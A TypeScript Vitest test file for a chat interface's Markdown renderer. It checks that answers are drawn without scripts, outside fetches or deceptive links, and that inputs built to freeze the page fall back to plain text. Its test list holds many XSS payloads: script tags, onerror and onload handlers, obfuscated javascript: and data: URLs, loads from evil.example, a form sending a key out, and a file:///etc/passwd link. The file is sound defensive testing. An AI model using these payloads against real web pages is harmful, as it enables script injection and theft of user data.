// @vitest-environment happy-dom
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownText } from './markdown-text';

function draw(text: string): HTMLElement {
  const place = document.createElement('div');
  place.innerHTML = renderToStaticMarkup(<MarkdownText text={text} isLive={false} />);
  return place;
}

const allowedElements = new Set(
  (
    'DIV SPAN P BR HR H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI INPUT SECTION SUP STRONG EM DEL CODE PRE A TABLE THEAD TBODY TR TH TD ' +
    'BUTTON SVG RECT PATH'
  ).split(' '),
);
const allowedAttributes = new Set(
  (
    'class href title target rel start align type checked disabled tabindex aria-label role aria-hidden data-live style ' +
    'xmlns width height viewbox fill stroke stroke-width stroke-linecap stroke-linejoin d x y rx ry'
  ).split(' '),
);

/** Everything in a drawn answer that could run, fetch or deceive; nothing for a harmless one. */
function dangersIn(place: HTMLElement): string[] {
  return [...place.querySelectorAll('*')].flatMap((element) => {
    const dangers: string[] = [];
    if (!allowedElements.has(element.tagName.toUpperCase())) dangers.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.has(name.toLowerCase())) dangers.push(`${element.tagName} ${name}`);
      if (name === 'style' && !/^text-align:\s*(left|right|center);?$/.test(value)) dangers.push(`style ${value}`);
      if (name === 'href' && !/^(https?:\/\/[^@]*$|mailto:[^?@]+@[^?@]+$)/.test(value)) dangers.push(`href ${value}`);
    }
    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer') dangers.push('a without rel');
    if (element.tagName === 'A' && element.getAttribute('title') !== element.getAttribute('href'))
      dangers.push('a title');
    return dangers;
  });
}

const script = 'javascript:alert(1)';
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  `<svg><a xlink:href="${script}"><text>x</text></a></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  `<math href="${script}">x</math>`,
  '<style>@import url(https://evil.example/x.css)</style>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p style="position:fixed;inset:0">covered</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel="preload" as="image" href="https://evil.example/p.png">',
  '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  `<iframe src="${script}"></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src=https://evil.example/v.mp4 onerror=alert(1) autoplay></video>',
  '<audio src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=key><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)" form=f>x</button>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  `[x](${script})`,
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](<javascript:alert(1)>)',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](java%73cript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://voide.example/123)',
  '[x](filesystem:https://voide.example/x)',
  '[x](about:blank)',
  '[x](intent://evil#Intent;scheme=http;end)',
  '[x](//evil.example/x)',
  '[x](/settings?key=1)',
  '[x](#user-content-x)',
  '[x](?flow=1)',
  '[x](https://bank.example@evil.example/)',
  '[x](http://user:secret@evil.example/)',
  '[x](mailto:?body=secret)',
  '[x](mailto:a@b.example?body=secret&cc=c@d.example)',
  '[x](mailto:a@b.example,c@d.example)',
  '[x](mailto:a%40b.example%3Fbody=secret@x.example)',
  '[x](xmpp:a@b.example)',
  `<${script}>`,
  '<data:text/html,x>',
  '<mailto:?body=secret>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x][1]\n\n[1]: data:text/html,x "title"',
  '![x](https://evil.example/p.png)',
  '![x](https://evil.example/p.png?secret=1 "onerror=alert(1)")',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x"onerror="alert(1)](https://evil.example/p.png)',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[![x](https://evil.example/p.png)](https://ok.example)',
  '> > - [x](javascript:alert(1))\n> > - <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
  '- [ ] <script>alert(1)</script>\n- [x] ![x](//evil.example/p.png)',
  '**<b onmouseover=alert(1)>x</b>**',
  '# <script>alert(1)</script>',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  'https://user@evil.example/x www.evil.example a@b.example',
  '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  '<a\nhref="javascript:alert(1)"\n>x</a>',
  '\u202e<script>alert(1)</script>',
  '[\u200b](javascript:alert(1))',
];

describe('an answer that means harm', () => {
  it('is tried in at least sixty ways', () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(60);
  });

  it.each(hostile)('is drawn without anything that runs, fetches or deceives: %s', (text) => {
    expect(dangersIn(draw(text))).toEqual([]);
    expect(dangersIn(draw(`Before\n\n${text}\n\nafter **${text}**`))).toEqual([]);
  });

  it('would be found out: the search sees what a careless drawing lets through', () => {
    const place = document.createElement('div');
    place.innerHTML =
      '<img src="x" onerror="1"><a href="javascript:1">x</a><a href="https://a@b.example">x</a><p style="top:0" onclick="1" id="x"></p>';
    expect(dangersIn(place).length).toBeGreaterThanOrEqual(8);
  });
});

describe('an answer that would freeze the page', () => {
  it.each([
    ['lists in lists', '- '.repeat(2_000)],
    ['numbered lists in lists', '1. '.repeat(2_000)],
    ['quotes in quotes', '>'.repeat(2_000)],
    ['emphasis without end', '*a_ '.repeat(3_000)],
    ['brackets without end', '['.repeat(10_000)],
    ['a table of a hundred thousand cells', `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${'|\n'.repeat(1_000)}`],
    ['a line without end', 'a '.repeat(100_000)],
  ])('is shown as plain text: %s', (_name, text) => {
    const place = draw(text);
    expect(place.querySelector('.prose > .prose-plain')?.textContent?.trim()).toBe(text.trim());
    expect(place.querySelectorAll('*').length).toBeLessThan(5);
  });

  it('is told from long honest ones', () => {
    const list = '- **an item** of a *list*, with `code`\n'.repeat(200);
    const nested = Array.from({ length: 12 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n');
    const table = `| a | b | c |\n|---|---|---|\n${'| 1 | 2 | 3 |\n'.repeat(500)}`;
    const code = `\`\`\`\n${'const a = 1;\n'.repeat(2_000)}\`\`\``;
    for (const text of [list, nested, table, code, '-'.repeat(200)]) {
      expect(draw(text).querySelector('.prose-plain')).toBeNull();
    }
  });
});

describe('an answer', () => {
  it('opens links in a page of their own, with the address in sight', () => {
    const link = draw('[the docs](https://ok.example/a)').querySelector('a');
    expect(link?.outerHTML).toBe(
      '<a href="https://ok.example/a" title="https://ok.example/a" target="_blank" rel="noopener noreferrer">the docs</a>',
    );
  });

  it('writes to a person, without words put in', () => {
    expect(draw('[x](mailto:a@b.example?body=hi)').querySelector('a')?.getAttribute('href')).toBe('mailto:a@b.example');
  });

  it('shows an image as a link with its description, and fetches nothing', () => {
    const place = draw('![A cat](https://ok.example/cat.png)');
    expect(place.querySelector('img')).toBeNull();
    expect(place.querySelector('a.image-chip')?.textContent).toBe('A cat');
    expect(place.querySelector('a.image-chip')?.getAttribute('href')).toBe('https://ok.example/cat.png');
  });

  it('keeps the words of a link that leads nowhere good', () => {
    const place = draw('Press [here](javascript:alert(1)) now');
    expect(place.textContent).toBe('Press here now');
    expect(place.querySelector('a')).toBeNull();
  });

  it('shows HTML as the text it is', () => {
    expect(draw('<b>bold</b>').textContent).toBe('<b>bold</b>');
    expect(draw('<div>\nwhole\n</div>').textContent).toBe('<div>\nwhole\n</div>');
    expect(draw('one<br>two').querySelector('br')).not.toBeNull();
  });

  it('names the language of code, offers to copy it, and shows tables and task lists', () => {
    const place = draw('```ts\nconst a = 1;\n```\n\n| a |\n|--:|\n| 1 |\n\n- [x] done');
    expect(place.querySelector('.code-head')?.textContent).toContain('ts');
    expect(place.querySelector('button')?.getAttribute('aria-label')).toBe('Copy code');
    expect(place.querySelector('table td')?.textContent).toBe('1');
    expect(place.querySelector<HTMLInputElement>('input[type=checkbox]')?.checked).toBe(true);
  });
});
